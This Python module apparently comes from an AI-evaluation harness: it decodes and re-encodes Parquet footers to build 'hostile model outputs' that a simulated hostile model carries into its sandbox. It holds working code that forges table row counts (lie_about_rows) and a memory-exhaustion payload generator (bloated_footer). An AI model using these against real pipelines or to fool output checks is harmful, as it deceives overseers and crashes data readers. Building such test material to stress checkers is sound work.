"""Rewrite a Parquet file's footer (Thrift compact protocol) so that it lies about the table.

A small, generic reader and writer of Thrift's compact protocol: enough to decode the footer's
``FileMetaData``, change fields, and encode it again (parquet.thrift field ids). Used to build
hostile model outputs; stdlib only, so a hostile model can carry it into the sandbox by value.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

MAGIC = b"PAR1"
_BOOL_TRUE, _BOOL_FALSE, _BYTE, _I16, _I32, _I64, _DOUBLE, _BINARY, _LIST, _SET, _MAP, _STRUCT = range(1, 13)

# parquet.thrift field ids
FILE_NUM_ROWS = 3
FILE_ROW_GROUPS = 4
ROW_GROUP_TOTAL_BYTE_SIZE = 2
ROW_GROUP_NUM_ROWS = 3


@dataclass
class Struct:
    fields: list[tuple[int, int, object]] = field(default_factory=list)  # (id, compact type, value)

    def get(self, field_id: int) -> object:
        return next(value for fid, _, value in self.fields if fid == field_id)

    def set(self, field_id: int, value: object) -> None:
        self.fields = [(fid, kind, value if fid == field_id else old) for fid, kind, old in self.fields]


@dataclass
class List:
    element_type: int
    items: list[object]


class _Reader:
    def __init__(self, data: bytes) -> None:
        self.data, self.at = data, 0

    def byte(self) -> int:
        self.at += 1
        return self.data[self.at - 1]

    def varint(self) -> int:
        shift = result = 0
        while True:
            b = self.byte()
            result |= (b & 0x7F) << shift
            shift += 7
            if not b & 0x80:
                return result

    def zigzag(self) -> int:
        n = self.varint()
        return (n >> 1) ^ -(n & 1)

    def value(self, kind: int) -> object:
        if kind in (_BOOL_TRUE, _BOOL_FALSE):
            return self.byte() == _BOOL_TRUE  # inside a list: one byte each
        if kind == _BYTE:
            return self.byte()
        if kind in (_I16, _I32, _I64):
            return self.zigzag()
        if kind == _DOUBLE:
            self.at += 8
            return struct.unpack("<d", self.data[self.at - 8 : self.at])[0]
        if kind == _BINARY:
            size = self.varint()
            self.at += size
            return self.data[self.at - size : self.at]
        if kind in (_LIST, _SET):
            header = self.byte()
            size, element = header >> 4, header & 0x0F
            if size == 15:
                size = self.varint()
            return List(element, [self.value(element) for _ in range(size)])
        if kind == _STRUCT:
            return self.struct()
        raise ValueError(f"compact type {kind} is not used by Parquet footers")

    def struct(self) -> Struct:
        out, last = Struct(), 0
        while True:
            header = self.byte()
            if header == 0:
                return out
            delta, kind = header >> 4, header & 0x0F
            field_id = last + delta if delta else self.zigzag()
            if kind in (_BOOL_TRUE, _BOOL_FALSE):
                out.fields.append((field_id, kind, kind == _BOOL_TRUE))
            else:
                out.fields.append((field_id, kind, self.value(kind)))
            last = field_id


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def _zigzag(n: int) -> bytes:
    return _varint((n << 1) ^ (n >> 63))


def _value(kind: int, value: object) -> bytes:
    if kind in (_BOOL_TRUE, _BOOL_FALSE):
        return bytes([_BOOL_TRUE if value else _BOOL_FALSE])
    if kind == _BYTE:
        return bytes([value])
    if kind in (_I16, _I32, _I64):
        return _zigzag(value)
    if kind == _DOUBLE:
        return struct.pack("<d", value)
    if kind == _BINARY:
        return _varint(len(value)) + value
    if kind in (_LIST, _SET):
        size = len(value.items)
        header = bytes([(size << 4) | value.element_type]) if size < 15 else bytes([0xF0 | value.element_type]) + _varint(size)
        return header + b"".join(_value(value.element_type, item) for item in value.items)
    if kind == _STRUCT:
        return encode_struct(value)
    raise ValueError(f"compact type {kind} is not used by Parquet footers")


def encode_struct(value: Struct) -> bytes:
    out, last = bytearray(), 0
    for field_id, kind, item in value.fields:
        if kind in (_BOOL_TRUE, _BOOL_FALSE):
            kind = _BOOL_TRUE if item else _BOOL_FALSE
        delta = field_id - last
        out += bytes([(delta << 4) | kind]) if 0 < delta <= 15 else bytes([kind]) + _zigzag(field_id)
        if kind not in (_BOOL_TRUE, _BOOL_FALSE):
            out += _value(kind, item)
        last = field_id
    return bytes(out + b"\x00")


def split(data: bytes) -> tuple[bytes, Struct]:
    """(the bytes before the footer, the decoded FileMetaData) of a Parquet file."""
    if data[:4] != MAGIC or data[-4:] != MAGIC:
        raise ValueError("not a Parquet file")
    size = struct.unpack("<I", data[-8:-4])[0]
    return data[: -8 - size], _Reader(data[-8 - size : -8]).struct()


def join(body: bytes, footer: Struct) -> bytes:
    encoded = encode_struct(footer)
    return body + encoded + struct.pack("<I", len(encoded)) + MAGIC


def lie_about_rows(data: bytes, *, num_rows: int, total_byte_size: int | None = None) -> bytes:
    """The same file, its footer claiming ``num_rows`` rows (in the file and in every row group)."""
    body, footer = split(data)
    footer.set(FILE_NUM_ROWS, num_rows)
    for group in footer.get(FILE_ROW_GROUPS).items:
        group.set(ROW_GROUP_NUM_ROWS, num_rows)
        if total_byte_size is not None:
            group.set(ROW_GROUP_TOTAL_BYTE_SIZE, total_byte_size)
    return join(body, footer)


def bloated_footer(footer_bytes: int, *, columns_per_row_group: int = 1000) -> bytes:
    """A Parquet file that is almost only footer: row groups of minimal column chunks (each a few
    bytes of Thrift, its one required field), which a reader expands a few hundred times in memory."""
    chunk = encode_struct(Struct([(2, _I64, 0)]))[:-1]  # ColumnChunk.file_offset, without the stop byte
    group = (
        bytes([(1 << 4) | _LIST, 0xF0 | _STRUCT]) + _varint(columns_per_row_group) + (chunk + b"\x00") * columns_per_row_group
        + bytes([(1 << 4) | _I64]) + _zigzag(0) + bytes([(1 << 4) | _I64]) + _zigzag(0) + b"\x00"
    )  # RowGroup: columns, total_byte_size, num_rows
    count = max(1, footer_bytes // len(group))
    schema = encode_struct(Struct([(1, _I32, 1), (2, _LIST, List(_STRUCT, [Struct([(4, _BINARY, b"schema"), (5, _I32, 0)])])), (3, _I64, 0)]))
    footer = schema[:-1] + bytes([(1 << 4) | _LIST, 0xF0 | _STRUCT]) + _varint(count) + group * count + b"\x00"
    return MAGIC + footer + struct.pack("<I", len(footer)) + MAGIC
